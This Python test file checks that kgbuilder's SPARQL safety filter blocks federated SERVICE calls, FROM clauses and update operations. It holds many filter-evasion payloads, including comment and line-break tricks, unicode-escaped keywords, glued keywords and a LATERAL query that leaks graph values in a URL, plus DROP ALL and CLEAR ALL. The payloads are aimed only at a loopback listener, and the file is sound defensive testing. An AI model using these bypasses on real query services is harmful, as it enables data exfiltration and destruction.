"""The safety check sees exactly what the engine runs: differential payloads against a loopback listener.

Each payload is first sent to the bare engine (pyoxigraph, the user's text as typed) to prove it is
live: the listener records the connection. Then kgbuilder must refuse it (or, where the engine
itself reads the SERVICE as a comment, answer it) with no connection made, on the in-memory rdflib
store and on Oxigraph, through the API and the CLI.
"""
from __future__ import annotations

import re
import socket
import threading
from pathlib import Path

import pytest
from click.testing import CliRunner

from doc_queries import doc_queries
from kgbuilder.cli import main
from kgbuilder.errors import QuerySyntaxError, UnsafeQueryError
from kgbuilder.sparql.query import execute
from kgbuilder.sparql.safety import KEYWORDS, check_query, decode_escapes, line_col, tokenize

ROOT = Path(__file__).parent.parent
MINI = ROOT / "tests" / "fixtures" / "mini"
NETWORK = "queries never reach the network"


class Listener:
    """A TCP socket on 127.0.0.1 that records every connection and answers like a SPARQL endpoint."""

    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}/x"
        self.hits: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        body = b'{"head": {"vars": ["s", "p", "o"]}, "results": {"bindings": []}}'
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    data = conn.recv(65536)
                except OSError:
                    data = b""
                self.hits.append(data)
                try:
                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/sparql-results+json\r\n"
                                 b"Content-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n"
                                 + body)
                except OSError:
                    pass

    def close(self):
        self._stop.set()
        self._thread.join()
        self.sock.close()


@pytest.fixture
def listener(monkeypatch):
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    monkeypatch.setenv("no_proxy", "127.0.0.1")
    lst = Listener()
    try:
        yield lst
    finally:
        lst.close()


@pytest.fixture(scope="module")
def ox_kg():
    import kgbuilder

    kg = kgbuilder.build(MINI, store="oxigraph")
    assert kg.store.name == "oxigraph"
    return kg


@pytest.fixture(scope="module")
def mem_kg():
    import kgbuilder

    kg = kgbuilder.build(MINI, store="memory")
    assert kg.store.name == "memory"
    return kg


def raw_engine_calls(kg, text: str, listener) -> bool:
    """Does the bare engine, given the text as typed, connect to the listener?"""
    before = len(listener.hits)
    try:
        res = kg.store._st.query(text, prefixes={k: str(v) for k, v in kg.prefixes.items()},
                                 use_default_graph_as_union=True)     # as kgbuilder runs queries
        if not isinstance(res, bool) and hasattr(res, "__iter__"):
            list(res)
    except (SyntaxError, OSError, RuntimeError, ValueError):
        pass
    return len(listener.hits) > before


# payloads that the bare engine runs, reaching the network; kgbuilder must refuse each
LIVE = {
    "plain": "SELECT * WHERE {{ ?s kg:id ?id SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "cr-ends-comment": "SELECT * WHERE {{ # c\r SERVICE <{url}> {{ ?s ?p ?o }} \n}}",
    "lf-ends-comment": "SELECT * WHERE {{ # c\n SERVICE <{url}> {{ ?s ?p ?o }} \n}}",
    "crlf-ends-comment": "SELECT * WHERE {{ # c\r\n SERVICE <{url}> {{ ?s ?p ?o }} \n}}",
    "lower": "select * where {{ ?s kg:id ?id service <{url}> {{ ?s ?p ?o }} }}",
    "mixed": "SELECT * WHERE {{ ?s kg:id ?id SeRvIcE <{url}> {{ ?s ?p ?o }} }}",
    "silent": "SELECT * WHERE {{ ?s kg:id ?id SERVICE SILENT <{url}> {{ ?s ?p ?o }} }}",
    "variable": "SELECT * WHERE {{ VALUES ?u {{ <{url}> }} LATERAL {{ SERVICE ?u {{ ?s ?p ?o }} }} }}",
    "lateral-variable": "SELECT * WHERE {{ ?s kg:id ?id BIND(IRI(CONCAT(\"{url}?\", ENCODE_FOR_URI(?id))) AS ?u) "
                        "LATERAL {{ SERVICE ?u {{ ?a ?b ?c }} }} }}",
    "optional": "SELECT * WHERE {{ ?s kg:id ?id OPTIONAL {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
    "union": "SELECT * WHERE {{ {{ ?s kg:id ?id }} UNION {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
    "minus": "SELECT * WHERE {{ ?s kg:id ?id MINUS {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
    "exists": "SELECT * WHERE {{ ?s kg:id ?id FILTER EXISTS {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
    "not-exists": "SELECT * WHERE {{ ?s kg:id ?id FILTER NOT EXISTS {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
    "subquery": "SELECT * WHERE {{ {{ SELECT ?s WHERE {{ ?s kg:id ?id SERVICE <{url}> {{ ?s ?p ?o }} }} }} }}",
    "graph": "SELECT * WHERE {{ GRAPH ?g {{ ?s kg:id ?id }} SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "ask": "ASK {{ ?s kg:id ?id SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "construct": "CONSTRUCT {{ ?s ?p ?o }} WHERE {{ ?s kg:id ?id SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "prefixed": "PREFIX ep: <{url}>\nSELECT * WHERE {{ ?s kg:id ?id SERVICE\n ep: {{ ?s ?p ?o }} }}",
    "no-space": "SELECT*WHERE{{?s kg:id ?id SERVICE<{url}>{{?s ?p ?o}}}}",
}

# the bare engine reads a SERVICE in these, SPARQL's own tokenizer (longest match) does not:
# kgbuilder reads them as SPARQL does and the engine is given a text where they are syntax errors
GLUED = {
    # Oxigraph reads keywords without a word boundary: these are SERVICE to it
    "glued-prefix": "PREFIX ex: <{url}#>\nSELECT * WHERE {{ ?s kg:id ?id SERVICEex:foo {{ ?s ?p ?o }} }}",
    # Oxigraph reads `<1#>` as "less than 1" and a comment, which hides the long string's start
    "lt-comment": "SELECT * WHERE {{ ?s kg:id ?id FILTER(STRLEN(?id)<1000#> \"\"\"\n) SERVICE <{url}> {{ ?s ?p ?o }} # \"\"\"\n}}",
}

# the engine reads these SERVICEs inside a comment (it ends comments at CR or LF only): harmless
IN_COMMENT = {"ls": "\u2028", "ps": "\u2029", "nel": "\u0085", "ff": "\x0c", "vt": "\x0b"}

# kgbuilder refuses these (escapes are decoded first, as SPARQL 1.1 section 19.2 says)
ESCAPED = {
    "u-escape": "SELECT * WHERE {{ ?s kg:id ?id \\u0053ERVICE <{url}> {{ ?s ?p ?o }} }}",
    "u-escape-middle": "SELECT * WHERE {{ ?s kg:id ?id SERV\\u0049CE <{url}> {{ ?s ?p ?o }} }}",
    "U-escape": "SELECT * WHERE {{ ?s kg:id ?id \\U00000073ervice <{url}> {{ ?s ?p ?o }} }}",
    "escaped-newline-ends-comment": "SELECT * WHERE {{ ?s kg:id ?id # c\\u000A SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "escaped-quote-ends-string": "SELECT * WHERE {{ ?s kg:id \"x\\u0022 . SERVICE <{url}> {{ ?s ?p ?o }} # \" }}",
}


@pytest.mark.parametrize("store", ["memory", "oxigraph"])
@pytest.mark.parametrize("name", sorted(LIVE))
def test_live_service_payloads_are_refused_without_a_request(name, store, ox_kg, mem_kg, listener):
    text = LIVE[name].format(url=listener.url)
    # the control: the bare engine does call out for this very text
    assert raw_engine_calls(ox_kg, text, listener), f"{name} does not reach the bare engine's network"
    listener.hits.clear()
    kg = ox_kg if store == "oxigraph" else mem_kg
    with pytest.raises(UnsafeQueryError, match=f"SERVICE .*is not allowed: {NETWORK}"):
        execute(kg, text, timeout=10)
    with pytest.raises(UnsafeQueryError):
        execute(kg, text, timeout=None)
    with pytest.raises(UnsafeQueryError):
        kg.query(text)
    assert listener.hits == []


@pytest.mark.parametrize("store", ["memory", "oxigraph"])
@pytest.mark.parametrize("name", sorted(GLUED))
def test_glued_service_payloads_are_refused_without_a_request(name, store, ox_kg, mem_kg, listener):
    text = GLUED[name].format(url=listener.url)
    assert raw_engine_calls(ox_kg, text, listener), f"{name} does not reach the bare engine's network"
    listener.hits.clear()
    kg = ox_kg if store == "oxigraph" else mem_kg
    # in this process each store's own engine runs: Oxigraph gets a text it cannot read a SERVICE
    # in; rdflib reads `<1000#>` as Oxigraph does, and its own algebra check refuses the SERVICE
    expected = QuerySyntaxError if store == "oxigraph" else (QuerySyntaxError, UnsafeQueryError)
    with pytest.raises(expected):
        execute(kg, text, timeout=None)
    with pytest.raises((QuerySyntaxError, UnsafeQueryError)):
        execute(kg, text, timeout=10)
    assert listener.hits == []


@pytest.mark.parametrize("store", ["memory", "oxigraph"])
def test_a_keyword_glued_to_true_is_a_syntax_error(store, ox_kg, mem_kg, listener):
    # the bare engine reads `true` + SERVICE here (no data makes it run: the parse is the proof)
    text = f"SELECT * WHERE {{ ?s ?q trueSERVICE<{listener.url}>{{ ?s ?p ?o }} }}"
    ox_kg.store._st.query(text)
    kg = ox_kg if store == "oxigraph" else mem_kg
    with pytest.raises(QuerySyntaxError, match="syntax error at 'trueSERVICE'"):
        execute(kg, text, timeout=10)
    assert listener.hits == []


@pytest.mark.parametrize("store", ["memory", "oxigraph"])
@pytest.mark.parametrize("name", sorted(IN_COMMENT))
def test_service_after_a_non_sparql_line_break_stays_in_the_comment(name, store, ox_kg, mem_kg, listener):
    text = f"SELECT ?s WHERE {{ ?s kg:memberOf ?o # c{IN_COMMENT[name]} SERVICE <{listener.url}> {{ ?s ?p ?o }}\n}}"
    assert not raw_engine_calls(ox_kg, text, listener)
    kg = ox_kg if store == "oxigraph" else mem_kg
    res = execute(kg, text, timeout=10)
    assert len(res.rows) == 2            # the two memberships of the mini dataset, as without the comment
    assert listener.hits == []


@pytest.mark.parametrize("store", ["memory", "oxigraph"])
@pytest.mark.parametrize("name", sorted(ESCAPED))
def test_escaped_keywords_are_refused(name, store, ox_kg, mem_kg, listener):
    text = ESCAPED[name].format(url=listener.url)
    kg = ox_kg if store == "oxigraph" else mem_kg
    with pytest.raises(UnsafeQueryError, match=f"SERVICE <{re.escape(listener.url)}> is not allowed: {NETWORK}"):
        execute(kg, text, timeout=10)
    assert listener.hits == []


def test_the_listener_sees_what_a_live_payload_sends(ox_kg, listener):
    # the harness is real: the bare engine's LATERAL payload carries graph data in the URL
    text = LIVE["lateral-variable"].format(url=listener.url)
    assert raw_engine_calls(ox_kg, text, listener)
    assert any(b"?alice" in h or b"?russia" in h or b"GET /x?" in h or b"POST /x?" in h for h in listener.hits)


def test_safety_off_reaches_the_listener_through_the_rebuilt_text(ox_kg, listener):
    # with the rules off the rebuilt text still calls out: the rebuild itself hides nothing
    execute(ox_kg, LIVE["plain"].format(url=listener.url), timeout=10, safe=False)
    assert len(listener.hits) >= 1


@pytest.mark.parametrize("store", ["memory", "oxigraph"])
@pytest.mark.parametrize("text,shown", [
    ("SELECT * FROM <{url}> WHERE {{ ?s ?p ?o }}", "FROM <{url}>"),
    ("select * from named <{url}> where {{ GRAPH ?g {{ ?s ?p ?o }} }}", "FROM NAMED <{url}>"),
    ("SELECT*FROM<{url}>{{?s ?p ?o}}", "FROM <{url}>"),
    ("PREFIX ep: <{url}>\nSELECT * # c\rFROM ep: WHERE {{ ?s ?p ?o }}", "FROM <{url}>"),
    ("SELECT * \\u0046ROM <{url}> WHERE {{ ?s ?p ?o }}", "FROM <{url}>"),
])
def test_from_is_refused(store, ox_kg, mem_kg, listener, text, shown):
    kg = ox_kg if store == "oxigraph" else mem_kg
    with pytest.raises(UnsafeQueryError) as exc:
        execute(kg, text.format(url=listener.url))
    assert str(exc.value) == (f"query: {shown.format(url=listener.url)} is not allowed: queries read only "
                              "the dataset's own graph (use GRAPH to pick a source)")
    assert listener.hits == []


@pytest.mark.parametrize("store", ["memory", "oxigraph"])
@pytest.mark.parametrize("text,op", [
    ("SELECT * WHERE { ?s ?p ?o } ; INSERT DATA { <urn:a> <urn:b> <urn:c> }", "INSERT DATA"),
    ("ASK {} ;\nLOAD <{url}>", "LOAD"),
    ("SELECT * WHERE { ?s ?p ?o } # c\r; DROP ALL", "DROP"),
    ("WITH <urn:g> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }", "WITH"),
    ("with <urn:g> insert { ?s ?p ?o } where { ?s ?p ?o }", "WITH"),
    ("\\u0043LEAR ALL", "CLEAR"),
    ("PREFIX x: <urn:x:> delete where { ?s ?p ?o }", "DELETE WHERE"),
])
def test_updates_anywhere_are_refused(store, ox_kg, mem_kg, listener, text, op):
    kg = ox_kg if store == "oxigraph" else mem_kg
    before = len(kg.store)
    with pytest.raises(UnsafeQueryError) as exc:
        execute(kg, text.replace("{url}", listener.url))
    assert str(exc.value) == (f"query: {op} is a SPARQL update; queries are read-only "
                              "(use SELECT, ASK, CONSTRUCT or DESCRIBE)")
    assert len(kg.store) == before
    assert listener.hits == []


def test_the_issue_payload_through_the_cli_on_oxigraph(tmp_path, listener):
    q = tmp_path / "q.rq"
    q.write_bytes(f"SELECT * WHERE {{ # c\r SERVICE <{listener.url}> {{ ?s ?p ?o }} \n}}".encode())
    for store in ("oxigraph", "memory"):
        r = CliRunner().invoke(main, ["query", str(MINI), "--store", store, "-f", str(q)])
        assert r.exit_code == 1, r.output
        assert r.output == f"Error: {q}: SERVICE <{listener.url}> is not allowed: {NETWORK}\n"
    assert listener.hits == []


def test_the_issue_payload_on_the_kazakhstan_dataset_on_oxigraph(tmp_path, listener):
    q = tmp_path / "q.rq"
    q.write_bytes(f"SELECT * WHERE {{ # c\r SERVICE <{listener.url}> {{ ?s ?p ?o }} \n}}".encode())
    r = CliRunner().invoke(main, ["query", str(ROOT / "datasets" / "kazakhstan-2022"), "--store", "oxigraph",
                                  "-f", str(q)])
    assert r.exit_code == 1, r.output
    assert r.output == f"Error: {q}: SERVICE <{listener.url}> is not allowed: {NETWORK}\n"
    assert listener.hits == []


# ---------------------------------------------------------------- the tokenizer and the rebuilt text

def test_no_allowed_word_hides_a_forbidden_keyword():
    # Oxigraph could split an allowed word into keyword + SERVICE/FROM; none contains them
    for word in KEYWORDS:
        for bad in ("SERVICE", "FROM", "INSERT", "DELETE", "LOAD"):
            assert bad not in word or word == bad, word


def test_the_engine_text_has_no_comment_no_prefixed_name_and_escaped_iris():
    q = check_query("PREFIX ex: <http://x/>\nSELECT ?s # SERVICE\rWHERE { ?s ex:p <http://y/z> . }", {})
    assert "#" not in q.text and "SERVICE" not in q.text
    assert "<\\u0068ttp://x/p>" in q.text and "<\\u0068ttp://y/z>" in q.text
    assert q.kind == "SELECT"
    # lines stay where the user put them, so the engine's line numbers agree
    assert q.text.count("\n") == 1 and q.text.count("\r") == 1


def test_unknown_words_are_syntax_errors_at_their_place():
    with pytest.raises(QuerySyntaxError) as exc:
        check_query("SELECT * WHERE {\n  ?s ?p trueSERVICE<http://x/>{ ?s ?p ?o } }", {})
    assert (exc.value.line, exc.value.column, exc.value.token) == (2, 9, "trueSERVICE")


def test_unknown_prefix_names_the_prefix_with_a_hint():
    with pytest.raises(QuerySyntaxError) as exc:
        check_query("SELECT * WHERE { ?s kgg:id ?o }", {"kg": "https://w3id.org/kgbuilder/ns#"})
    assert str(exc.value) == "query:1:21: unknown prefix 'kgg:' (did you mean 'kg'?)"


def test_escapes_are_decoded_once_and_positions_map_back():
    text, moves = decode_escapes("a\\u0062c\\u005Cu0064")
    assert text == "abc\\u0064"                      # one pass, as SPARQL says: no double decoding
    toks = tokenize("\\u0053ELECT ?x WHERE { ?x ?p\r?o }")
    assert [t.text for t in toks][:2] == ["SELECT", "?x"]
    assert line_col("\\u0053ELECT ?x WHERE { ?x ?p\r?o }", toks[-2].start) == (2, 1)


@pytest.mark.parametrize("text,line,col", [
    ("SELECT * WHERE { ?s ?p 'open }", 1, 24),
    ("SELECT * WHERE {\r\n ?s ?p \u2028 }", 2, 8),
    ("SELECT * WHERE { ?s ?p \"\\q\" }", 1, 24),
])
def test_what_no_token_starts_with_is_a_syntax_error(text, line, col):
    with pytest.raises(QuerySyntaxError) as exc:
        check_query(text, {})
    assert (exc.value.line, exc.value.column) == (line, col)




@pytest.fixture(scope="module")
def kazakhstan_ox():
    import kgbuilder

    return kgbuilder.build(ROOT / "datasets" / "kazakhstan-2022", store="oxigraph")


def test_saved_queries_and_doc_examples_pass_and_answer_as_typed(kazakhstan_ox):
    # the rebuilt text gives the bare engine's answer to the text as typed, row for row
    st = kazakhstan_ox.store._st
    prefixes = {k: str(v) for k, v in kazakhstan_ox.prefixes.items()}
    queries = doc_queries()
    assert len(queries) > 30
    for name, text in queries:
        checked = check_query(text, kazakhstan_ox.prefixes, name)
        typed, rebuilt = st.query(text, prefixes=prefixes), st.query(checked.text)
        if checked.kind == "ASK":
            assert bool(typed) == bool(rebuilt), name
        elif checked.kind == "SELECT":
            assert [tuple(map(str, r)) for r in typed] == [tuple(map(str, r)) for r in rebuilt], name
        else:
            assert sorted(map(str, typed)) == sorted(map(str, rebuilt)), name


@pytest.mark.parametrize("text,tokens", [
    ("SELECT ?é ?x·y WHERE { ?é kz:Алматы _:б }", ["SELECT", "?é", "?x·y", "WHERE", "{", "?é", "kz:Алматы", "_:б", "}"]),
    ("ASK { ?x\u00b7 ?p ?o }", ["ASK", "{", "?x\u00b7", "?p", "?o", "}"]),
])
def test_non_ascii_names_are_read_with_the_grammar_s_exact_ranges(text, tokens):
    assert [t.text for t in tokenize(text)] == tokens


@pytest.mark.parametrize("text,bad", [("SELECT ?\u00b7x WHERE {}", "\u00b7"), ("SELECT ?x\u00d7 WHERE {}", "×"),
                                      ("SELECT ?x WHERE { ?x kz:a\u2028b ?o }", "\u2028")])
def test_characters_outside_the_name_ranges_end_the_name(text, bad):
    # U+00B7 may not start a variable name, U+00D7 and U+2028 are in no name range
    with pytest.raises(QuerySyntaxError) as exc:
        tokenize(text)
    assert exc.value.token.startswith(bad)


def test_random_mixes_of_the_tricks_never_reach_the_listener(ox_kg, listener):
    """Seeded mixes of separators, escapes, spellings and nestings: whatever the bare engine makes of
    each, kgbuilder either refuses it or runs it without a single connection."""
    import random

    rng = random.Random(20221)
    plain = [" ", "\n", "\r", "\r\n", "\t", "#c\r", "#c\n", "#c\r\n"]
    tricky = ["", "\u2028", "\x85", "\x0c", "#c\u2028 ", "\\u000A", "\\u000D", "\\u0020", "\\u0023c\n"]
    seps = plain * 4 + tricky
    keywords = ["SERVICE", "service", "SeRvIcE", "SERVICE SILENT"] * 3 + [
        "\\u0053ERVICE", "SERV\\u0049CE", "\\U00000053ERVICE", "SERVICE\\u0020SILENT"]
    targets = ["<{url}>", "ep:", "?u", "ex:x"]
    wraps = ["{}", "OPTIONAL {{ {} }}", "LATERAL {{ {} }}", "FILTER EXISTS {{ {} }}", "FILTER NOT EXISTS {{ {} }}",
             "{{ SELECT * WHERE {{ {} }} }}", "MINUS {{ {} }}", "{{ ?s ?p ?o }} UNION {{ {} }}", "GRAPH ?g {{ {} }}"]
    live = 0
    for _ in range(240):
        sep = lambda: rng.choice(seps)  # noqa: E731
        target = rng.choice(targets)
        kw = rng.choice(keywords)
        if rng.random() < 0.1:
            kw, target = "SERVICEex:foo", ""      # Oxigraph: SERVICE + ex:foo
        service = kw + sep() + target + sep() + "{ ?a ?b ?c }"
        inner = rng.choice(wraps).format(service)
        if target == "?u":
            inner = "VALUES ?u { <{url}> } " + inner
        text = ("PREFIX ep: <{url}>\nPREFIX ex: <{url}#>\n" + rng.choice(["SELECT * WHERE {", "ASK {", "select*where{"])
                + " ?s kg:id ?id" + rng.choice([" .", "", " .", "", " FILTER(STRLEN(?id)<1000#> "]) + sep() + inner
                + sep() + "}"
                ).replace("{url}", listener.url)
        live += raw_engine_calls(ox_kg, text, listener)
        listener.hits.clear()
        try:
            execute(ox_kg, text, timeout=None)
        except (UnsafeQueryError, QuerySyntaxError):
            pass
        assert listener.hits == [], text
    assert live >= 40, live    # enough of the mixes do reach the network on the bare engine


def test_the_issue_payloads_on_a_generated_dataset_where_auto_picks_oxigraph(tmp_path, listener):
    # 20,000 facts: `auto` holds the graph in an on-disk Oxigraph store in the build cache
    import subprocess
    import sys

    sys.path.insert(0, str(ROOT / "bench"))
    from generate import generate

    from kgbuilder.store.base import AUTO_THRESHOLD

    data = tmp_path / "data"
    generate(AUTO_THRESHOLD, data)
    payloads = {
        "cr": f"SELECT * WHERE {{ # c\r SERVICE <{listener.url}> {{ ?s ?p ?o }} \n}}",
        "lateral": f"SELECT * WHERE {{ ?s ?p ?o BIND(IRI(CONCAT(\"{listener.url}?\", ENCODE_FOR_URI(STR(?o)))) "
                      "AS ?u) LATERAL { SERVICE ?u { ?a ?b ?c } } } LIMIT 3",
    }
    q = tmp_path / "q.rq"
    q.write_bytes(payloads["cr"].encode())
    # in a process of its own, as a user runs it (a process opens an on-disk store once)
    r = subprocess.run([str(Path(sys.executable).with_name("kgbuilder")), "query", str(data), "-f", str(q)],
                       capture_output=True, text=True, timeout=600)
    assert (r.returncode, r.stdout) == (1, ""), r.stderr
    assert r.stderr == f"Error: {q}: SERVICE <{listener.url}> is not allowed: {NETWORK}\n"
    import kgbuilder

    kg = kgbuilder.open_graph(data)
    assert kg.store.name == "oxigraph" and kg.store.path is not None
    assert raw_engine_calls(kg, payloads["lateral"], listener)      # live on the bare engine
    listener.hits.clear()
    with pytest.raises(UnsafeQueryError):
        execute(kg, payloads["lateral"], timeout=None)
    assert listener.hits == []
